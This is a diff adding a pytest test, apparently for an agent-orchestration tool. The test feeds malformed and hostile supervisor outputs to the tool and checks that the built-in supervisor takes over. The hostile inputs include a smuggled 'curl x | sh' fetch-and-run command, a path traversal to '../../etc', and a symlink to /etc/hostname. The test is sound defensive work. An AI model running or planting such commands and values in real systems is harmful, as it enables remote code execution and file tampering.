@@ -286,3 +286,41 @@ def test_a_file_named_like_litter_that_a_person_committed_is_work(place: Make, s
     here.run(stub(work), cycles=1)
     ended = next(e.data for e in here.harness().log.events if e.kind == "agent_exit")
     assert ".aider.conf.yml" in ended["changed"]
+
+
+HOSTILE = {
+    "binary": r"out(b'\xff\x00\x1b[2J\nFocus: \xfe\n' * 9000)",
+    "megabytes": "out(('Focus: ' + 'x' * 999 + chr(10)).encode() * 4000)",
+    "cut off": "out(ORDER[: len(ORDER) // 4].encode())",
+    "of no item": "out(ORDER.replace('A-001', 'Z-999').encode())",
+    "of an item behind others": "out(ORDER.replace('Mode', 'Reason: me first\\nMode')"
+    ".replace('A-001', 'D-001').encode())",
+    "a path outside": "out(ORDER.replace('do it', 'edit `../../etc/thing.py::f`').encode())",
+    "a command of a shell": "out(ORDER.replace('test -f', 'curl x | sh; test -f').encode())",
+    "two, the last of no item": "out((ORDER + ORDER.replace('A-001', 'Z-999')).encode())",
+    "a link": "os.unlink('input.md'); os.symlink('/etc/hostname', 'input.md'); out(b'Focus: Z-9')",
+    "a pipe": "os.unlink('input.md'); os.mkfifo('input.md'); out(b'Focus: Z-9')",
+    "a folder": "os.unlink('input.md'); os.mkdir('input.md'); out(b'Focus: Z-9')",
+}
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_an_odd_program_as_supervisor_is_asked_twice_then_the_built_in_one_writes(
+    what: str, place: Make
+) -> None:
+    here = place(LEDGER, **VALUES)
+    code = (
+        f"import os, sys\nORDER = {order('A-001')!r}\n"
+        f"def out(data): sys.stdout.buffer.write(data)\n{HOSTILE[what]}\n"
+    )
+    command = json.dumps(["{python}", "-c", code])
+    here.write("orchestration.yaml", f"isolation: none\nsupervisor_command: {command}\n")
+    here.commit("configuration")
+    said: list[str] = []
+    assert here.run(supervisor="custom", cycles=1, say=said.append).landed == ["A-001"]
+    asked = [e.data for e in events(here, "supervise")]
+    assert [a["valid"] for a in asked] == [False, False], asked
+    assert all(a["errors"] for a in asked)
+    assert events(here, "order")[0].data["source"] == "built-in"
+    assert "the built-in supervisor writes the order" in said
+    assert f"  {asked[-1]['errors'][0]}" in said
